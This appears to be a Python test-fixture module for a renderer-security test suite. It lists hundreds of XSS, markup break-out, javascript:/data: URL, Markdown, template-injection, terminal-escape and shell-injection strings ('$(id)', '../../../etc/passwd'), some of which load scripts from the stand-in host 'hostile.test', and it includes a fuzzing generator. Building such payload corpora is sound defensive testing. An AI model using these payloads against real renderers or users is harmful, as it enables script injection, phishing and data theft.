"""Strings that have run code, loaded something or deceived a reader in renderers of other people's text.

`STRINGS` are what `make test` plants in every field; `combined` multiplies them by what may stand around them, for the
long run. A payload calls `__fire`, opens a dialog and names a host, so that each detector of the arena can notice it.
"""

# ruff: noqa: E501 - a table of hostile values or a program for the browser reads better unbroken

from __future__ import annotations

import random
from collections.abc import Iterator
from html import escape

RUN = "alert(__fire())"
AWAY = "//hostile.test/x"

ELEMENTS = (
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script >{RUN}</script >", f"<script/x>{RUN}</script>",
    f"<script src={AWAY}.js></script>", f"<script type=module>{RUN}</script>", f"<script\n>{RUN}\n</script>",
    f"<<script>{RUN}//<</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script>{RUN}",
    f"<img src=x: onerror={RUN}>", f'<img src="x:" onerror="{RUN}">', f"<img/src=x:/onerror={RUN}>",
    f"<img src={AWAY}.png>", f"<img srcset='{AWAY}.png 1x'>", f"<image src=x: onerror={RUN}>",
    f"<img src=x: onerror={RUN}//", f"<IMG SRC=x: oNeRrOr={RUN}>", f"<img\tsrc=x:\tonerror={RUN}>",
    f"<img\x0csrc=x:\x0conerror={RUN}>", "<img src='x:' onerror=\"&#97;lert(__fire())\">",
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href={AWAY}.js /></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={RUN}>", f"<svg><use href='{AWAY}.svg#a'/></svg>",
    f"<svg><image href={AWAY}.png /></svg>", f"<svg><foreignObject><img src=x: onerror={RUN}></foreignObject></svg>",
    f"<svg><style><img src=x: onerror={RUN}></style></svg>", f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a>",
    f"<math><mtext><img src=x: onerror={RUN}></mtext></math>", f"<math href='javascript:{RUN}'>x</math>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>", f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN.replace('__fire', 'parent.__fire')}</script>'></iframe>",
    f"<iframe src={AWAY}></iframe>", f"<iframe onload={RUN}></iframe>", f"<frame src='javascript:{RUN}'>",
    f"<object data='javascript:{RUN}'></object>", f"<object data={AWAY}.swf></object>", f"<embed src={AWAY}.swf>",
    f"<embed src='javascript:{RUN}'>", f"<applet code={AWAY}>", f"<video src=x: onerror={RUN}></video>",
    f"<video><source onerror={RUN} src=x:></video>", f"<video poster={AWAY}.png>", f"<audio src={AWAY}.mp3 autoplay>",
    f"<audio src=x: onerror={RUN}>", f"<track src={AWAY}.vtt>", f"<body onload={RUN}>", f"<body background={AWAY}.png>",
    f"<html onmouseover={RUN}>", f"<table background={AWAY}.png><td background={AWAY}.png>",
    f"<input autofocus onfocus={RUN}>", f"<input type=image src={AWAY}.png>", f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>", f"<keygen autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>x",
    f"<marquee onstart={RUN}>x</marquee>", f"<div onpointerover={RUN}>x</div>", f"<a tabindex=1 onfocus={RUN}>x</a>",
    f"<style>@import '{AWAY}.css';</style>", f"<style>*{{background:url({AWAY}.png)}}</style>",
    f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={RUN}>",
    f"<style>@font-face{{font-family:x;src:url({AWAY}.woff)}}*{{font-family:x}}</style>",
    f"<link rel=stylesheet href={AWAY}.css>", f"<link rel=prefetch href={AWAY}>", f"<link rel=preload as=image href={AWAY}>",
    f"<link rel=dns-prefetch href={AWAY}>", f"<link rel=modulepreload href={AWAY}.js>", f"<link rel=icon href={AWAY}.ico>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">", "<meta http-equiv=set-cookie content=a=b>",
    f"<base href={AWAY}/>", "<base target=_top>", f"<form action={AWAY}><button>Sign in</button></form>",
    f"<form action='javascript:{RUN}'><input type=submit></form>", f"<button formaction='javascript:{RUN}'>x</button>",
    f"<isindex action='javascript:{RUN}' type=submit>", f"<a href='javascript:{RUN}'>x</a>", f"<a href={AWAY} ping={AWAY}>x</a>",
    f"<area href='javascript:{RUN}'>", f"<portal src={AWAY}>", f"<fencedframe src={AWAY}>", "<plaintext>", "<xmp>", "<noscript>",
    f"<noscript><p title='</noscript><img src=x: onerror={RUN}>'>", f"<template><script>{RUN}</script></template>",
    f"<template shadowrootmode=open><img src=x: onerror={RUN}></template>", f"<xss-x onfocus={RUN} tabindex=1 autofocus>",
    f"<p style='background:url({AWAY}.png)'>x</p>", f"<div style=width:expression({RUN})>x</div>",
    "<div style='position:fixed;inset:0;z-index:99999'>Sign in</div>", "<dialog open>Session expired</dialog>",
    "<div popover id=p>x</div><button popovertarget=p>x</button>", "<img usemap=#m><map name=m><area href=//hostile.test>",
)  # fmt: skip

BREAK_OUTS = (
    f'"><script>{RUN}</script>', f"'><script>{RUN}</script>", f"`><script>{RUN}</script>", f"--><script>{RUN}</script>",
    f"--!><script>{RUN}</script>", f"<!--><script>{RUN}</script>", f"<!-- --!><script>{RUN}</script>-->",
    f"]]><script>{RUN}</script>", f"<![CDATA[<script>{RUN}</script>]]>", f"<?xml?><script>{RUN}</script>?>",
    f"</script><script>{RUN}</script>", f"</SCRIPT ><img src=x: onerror={RUN}>", f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"</template><script>{RUN}</script>",
    f"</pre></code><img src=x: onerror={RUN}>", f"</details></div></main></body></html><script>{RUN}</script>",
    f"</noscript><img src=x: onerror={RUN}>", f"</svg><img src=x: onerror={RUN}>", f"</math><img src=x: onerror={RUN}>",
    "<!--<script>", "<!-- <script> -->", "<!--", "-->", "<![", "<?", "</", "<", ">", "<a", "<a href=", "<a href='", '<a href="',
    f'" onmouseover={RUN} x="', f"' onmouseover={RUN} x='", f'" autofocus onfocus={RUN} tabindex=1 x="', f"x onfocus={RUN} autofocus",
    f'" style="background:url({AWAY}.png)" x="', f'" src="{AWAY}.png" x="', f'" href="javascript:{RUN}" x="', '" class="x" id="y',
    f"\\\"><script>{RUN}</script>", f"\\'><script>{RUN}</script>", f"%22%3E%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"&#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;",
    f"&amp;lt;script&amp;gt;{RUN}", f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"\u02bascript\u02ba{RUN}",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>", f"<\x00script>{RUN}</script>", f"<img src=x:\x00 onerror={RUN}>", f"<\ufeffscript>{RUN}</script>",
    f"<img src=x: onerror\u2028={RUN}>", f"\u2028{RUN}\u2029", f"\\u2028{RUN}", f"';{RUN};'", f'";{RUN};"', f"`${{{RUN}}}`", f"*/{RUN}/*",
    f"//\n{RUN}", f"\\';{RUN};//", f"{{}});{RUN};({{", f"}}</style><script>{RUN}</script>", f"}}*{{background:url({AWAY}.png)}}",
    f"red;background:url({AWAY}.png)", f"url({AWAY}.png)", f"url('javascript:{RUN}')", f"expression({RUN})", f"-moz-binding:url({AWAY})",
    f"@import url({AWAY}.css);", f"\\75rl({AWAY}.png)", "x;position:fixed;inset:0", "</style", "</script", "<script", "<style", "<title",
    f'{{"x":"</script><script>{RUN}</script>"}}', f'{{"</script><img src=x: onerror={RUN}>":1}}', '["<!--","<script>"]',
)  # fmt: skip

ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"\tjavascript:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}",
    f"java\rscript:{RUN}", f"\x01javascript:{RUN}", f"\x00javascript:{RUN}", f"javascript\x00:{RUN}", f"\u00a0javascript:{RUN}",
    f"\u200bjavascript:{RUN}", f"\ufeffjavascript:{RUN}", f"java\u00adscript:{RUN}", f"javascript&colon;{RUN}", f"javascript&#58;{RUN}",
    f"javascript&#x3a;{RUN}", f"&#106;avascript:{RUN}", f"java&Tab;script:{RUN}", f"java&NewLine;script:{RUN}", f"&#1;javascript:{RUN}",
    f"javascript:%0a{RUN}", f"javascript://hostile.test/%0a{RUN}", f"javascript://%0a{RUN}", f"javascript:/*https://*/{RUN}",
    f"javascript:{RUN}//https://x.test", f"view-source:javascript:{RUN}", f"jar:javascript:{RUN}", f"feed:javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUN} xmlns='http://www.w3.org/2000/svg'/>", "DATA:text/html,x", "data&colon;text/html,x",
    "vbscript:msgbox(1)", "VBScript:x", "livescript:x", "mocha:x", "blob:https://hostile.test/x", "filesystem:https://hostile.test/x",
    "file:///etc/passwd", "ftp://hostile.test/", "ws://hostile.test/", "about:blank", "chrome://settings", "ms-settings:x", "tel:+1",
    "intent://x#Intent;scheme=http;end", "//hostile.test/x", "\\\\hostile.test\\x", "/\\hostile.test", "https:hostile.test", "https:/hostile.test",
    "https://", "http:", "https:///x", "https://user:word@hostile.test/", "https://good.test@hostile.test/", "https://good.test\\@hostile.test/",
    f'https://x.test/"onmouseover="{RUN}', f"https://x.test/' onmouseover='{RUN}", f"https://x.test/><script>{RUN}</script>",
    f"https://x.test/?q=<script>{RUN}</script>", "https://x.test/\u202egpj.exe", "https://x.test/\u200b", "https://\u0430pple.test/",
    "https://[::1", "https://x.test:99999/", "https://x.test:port/", "https://%00/", "https://x.test/\x00", "https://x.test/a b",
    f"mailto:a@x.test?body=<script>{RUN}</script>", f'mailto:"onmouseover={RUN}"@x.test', "mailto:", f"mailto:a@x.test\"><img src=x: onerror={RUN}>",
)  # fmt: skip

MARKDOWN = (
    f"[x](javascript:{RUN})", f"[x](<javascript:{RUN}>)", f"[x]( javascript:{RUN})", f"[x](JAVASCRIPT:{RUN})", f"[x](java\\\nscript:{RUN})",
    f"[x](javascript&colon;{RUN})", f"[x](javascript&#x3A;{RUN})", f"[x](&#x6A;avascript:{RUN})", f"[x](%6Aavascript:{RUN})",
    f"[x](\\javascript:{RUN})", "[x](data:text/html,x)", "[x](data:image/gif;base64,R0lGODlhAQABAAAAACw=)", f"[x](vbscript:{RUN})",
    f"[x](https://x.test '\" onmouseover={RUN}')", f'[x](https://x.test "\' onmouseover={RUN} x=\'")', f"[x](https://x.test\"onmouseover={RUN})",
    f"[x](<https://x.test/\" onmouseover=\"{RUN}>)", f"[<img src=x: onerror={RUN}>](https://x.test)", "[`<script>`](https://x.test)",
    f"[x][1]\n\n[1]: javascript:{RUN}", f"[1]\n\n[1]: <javascript:{RUN}> 'x'", f"[x]: {AWAY}\n\n![x]", f"[a]: javascript:{RUN}\n[a]",
    f"<javascript:{RUN}>", f"<JaVaScRiPt:{RUN}>", "<data:text/html,x>", f"<https://x.test/\"onmouseover={RUN}>", f"<a@x.test\"onmouseover={RUN}>",
    f"![x](https:{AWAY}.png)", f"![x](javascript:{RUN})", f'![x" onerror="{RUN}](x:)', f"![x](x: \"\" onerror={RUN})", f"![\"><script>{RUN}</script>](x)",
    f"[![x](https:{AWAY}.png)](javascript:{RUN})", f"![[x](javascript:{RUN})](https:{AWAY}.png)", f"[[x](https://x.test)](javascript:{RUN})",
    f"*<script>*{RUN}</script>", f"**<img src=x: onerror={RUN}>**", f"`</code><script>{RUN}</script>`", f"``` \n</code></pre><script>{RUN}</script>\n```",
    f"```html\"><script>{RUN}</script>\nx\n```", f"~~~ <img src=x: onerror={RUN}>\nx\n~~~", f"    <script>{RUN}</script>", f"> <script>{RUN}</script>",
    f"- <img src=x: onerror={RUN}>", f"1. <script>\n   {RUN}\n   </script>", f"# <script>{RUN}</script>", f"<script>{RUN}</script>\n===",
    f"| <script>{RUN}</script> | b |\n|---|---|\n| <img src=x: onerror={RUN}> | [x](javascript:{RUN}) |", "|\"><script>|\n|:-:|\n|</td>|",
    f"<div>\n*x*\n<script>{RUN}</script>\n</div>", f"<p><b><i><code><script>{RUN}</script></code></i></b></p>", f"<a href=javascript:{RUN}>x</a>",
    f"<a href=' javascript:{RUN}'>x</a>", f"<a href=\"java&#10;script:{RUN}\">x</a>", f"<a href=x onclick={RUN}>x</a>", f"<a name=x style=x href=https://x.test onclick={RUN}>x</a>",
    f"<a href=https://x.test>)<script>{RUN}</script></a>", f"<a href='https://x.test)<script>{RUN}</script>'>x</a>", f"<b onclick={RUN}>x</b>",
    f"<ul><li><img src=x: onerror={RUN}><li></ul>", f"<pre>\n```\n</pre><script>{RUN}</script>", f"<h1>\n</h1><script>{RUN}</script>", f"<code>`<script>{RUN}</script>`</code>",
    f"<!-- [x](javascript:{RUN}) -->", f"<!-- ` --><script>{RUN}</script><!-- ` -->", f"<td><script>{RUN}</script></td>", f"\\<script>{RUN}\\</script>",
    f"&lt;img src=x: onerror={RUN}&gt;", "*" * 90 + "x" + "*" * 90, "[" * 180, "![" * 90, "<" * 90, "`" * 181, "> " * 90, "- " * 90 + "x", "_*" * 90,
    "[x](" * 45, "<a href=x>" * 12, "<b>" * 45, "|" * 90 + "\n" + "|-" * 45, "\\" * 181, "&" * 90, "a\n=\n" * 30,
)  # fmt: skip

TEMPLATES = (
    f"{{{{{RUN}}}}}", f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}", f"#{{{RUN}}}", f"<%= {RUN} %>", f"{{% {RUN} %}}", f"[[{RUN}]]",
    "$5 and $10", r"$\href{javascript:alert(1)}{x}$", r"\(\href{javascript:alert(1)}{x}\)", r"$$\require{html}\style{background:url(x)}{x}$$",
    r"\[ \unicode{x} \]", r"\begin{equation}x\end{equation}", r"$\class{x}{y}$", r"$\cssId{x}{y}$", "%(x)s", "{0.__class__}", "%s%n", "{x!r}",
    "<button data-commandlinker-command='terminal:create-new' data-commandlinker-args='{}'>Run</button>", '" data-commandlinker-command="notebook:run-all-cells',
    "<a data-jupyter-action=x data-mime-type=x>x</a>", "<div class='jp-Cell'>x</div>", "<a class=jp-InternalAnchorLink href=#x>x</a>", "<span onclick>x</span>",
    "<a id=location><a id=location name=href href=javascript:x>x</a>", "<form name=document><input name=cookie></form>", "<img name=currentScript>",
    "<a id=apirefListens>x</a>", "<form id=apirefListens>", "<img id=getElementById>", "<input name=querySelector>", "<svg id=x name=body>", "<object name=jupyterapp>",
    "location", "document", "currentScript", "apirefListens", "constructor", "__proto__", "prototype", "hasOwnProperty", "toString", "then", "name", "length",
)  # fmt: skip

CHARACTERS = (
    "\x00", "\x01\x02\x03\x04\x05\x06\x07\x08", "\x0b\x0c\x0e\x0f\x10\x15\x17\x1a", "\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;https://hostile.test\x07x\x1b]8;;\x07",
    "\x1b[8mhidden", "\x1bP+q\x1b\\", "\x7f", "\x80\x85\x9b31m\x9f", "\x9b2J", "a\rb", "a\r\nb", "a\nb", "a\tb", "a\x0bb", "a\x0cb", "a\u2028b\u2029c", "a\u0085b",
    "\u202egpj.exe\u202c", "\u202dabc", "\u2066x\u2069", "\u2067x", "\u2068", "\u200e\u200f", "\u061c", "\u202a\u202b", "a\u200bb\u200cc\u200dd\ufeffe", "\u2060\u2061\u2062\u2063\u2064",
    "\u00ad\u034f\u115f\u1160\u17b4\u180e\u3164\uffa0", "\ufff9x\ufffay\ufffb", "\ufffe\uffff\ufffd", "\U000e0001\U000e0041\U000e007f", "\ufe00\ufe0e\U000e0100",
    "\u05d0\u05d1 /path \u05d2", "\u0639\u0631\u0628\u064a (GET)", "a\u0301\u0302\u0303\u0304" * 20, "\u1d2c\u212a\u017f", "\ufb01\ufdfa", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001d4d0",
    "\ud800", "\udfff", "\udc00\ud800", "a\ud83d", "\ude00b", "\u0000<script>", "x" * 700, "x" * 400 + "<script>", "\u65e5\u672c" * 90, "a " * 180, "\n" * 180 + "x", " " * 180 + "x",
    "", " ", "\u00a0", "\u3000", "0", "-1", "1e309", "NaN", "null", "true", "false", "undefined", "None", "[]", "{}", '""', "''", "a=b&c=d", "a;b", "a,b", "../../../etc/passwd",
    "..\\..\\x", "/etc/passwd", "C:\\x", "\\\\server\\share", "file.html", "CON", "nul.txt", "a/b", ".", "..", "~", "~root", "x\x00.html", "-rf", "--help", "@file", "$(id)", "`id`", "|id", ";id", "'\"`",
    "application/json\r\nX-Evil: 1", "#/components/schemas/Thing", "#", "#/", "%", "%00", "%zz", "?", "?a=<b>", "*", "!!python/object:x", "&a *a", "<<: *a", "!include x",
)  # fmt: skip

STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys((*ELEMENTS, *BREAK_OUTS, *ADDRESSES, *MARKDOWN, *TEMPLATES, *CHARACTERS))
)

_AROUND = (
    "{}", " {}", "{} ", "x{}x", "\n{}", "\n\n{}\n\n", '"{}', "'{}'", "`{}", "`{}`", "*{}*", "**{}", "_{}_", "~~{}~~", "[{}](https://x.test)", "[x]({})", "[x](<{}>)", "![{}](x)",
    "![x]({})", "<{}>", "<a href={}>x</a>", "<a href='{}'>x</a>", '<a href="{}">x</a>', "<p>{}</p>", "<b>{}", "<li>{}", "<pre>{}", "<code>{}</code>", "<!--{}", "<!--{}-->", "- {}", "1. {}",
    "> {}", "# {}", "{}\n---", "| {} | x |\n|-|-|\n| {} | y |", "```\n{}\n```", "```{}\nx\n```", "    {}", "\\{}", "&{};", "{}\\", "</script>{}", "--></style></title>{}", "{{{{{}}}}}", "${}$", "\u202e{}",
    "\x00{}", "\ufeff{}", "https://x.test/{}", "https://x.test/?q={}", "mailto:{}", "javascript:{}", "data:text/html,{}", "{{\"x\": \"{}\"}}", "[x]: {}\n\n[x]", "<div title=\"{}\">", "<td>{}<td>",
)  # fmt: skip


def combined(seed: int) -> Iterator[str]:
    """Yield strings without end, the same for the same seed: each one of `STRINGS` inside one or two surroundings."""
    chance = random.Random(seed)
    while True:
        made = chance.choice(STRINGS)[:600]
        for _ in range(chance.choice((1, 1, 2, 3))):
            around = chance.choice(_AROUND)
            made = around.format(*[made] * around.count("{}")) if chance.random() < 0.85 else escape(made)
        if chance.random() < 0.3:
            at = chance.randrange(len(made) + 1)
            made = (
                made[:at] + chance.choice(("\x00", "\n", "<", ">", '"', "'", "`", "&", "\u202e", "\t", "/")) + made[at:]
            )
        yield made
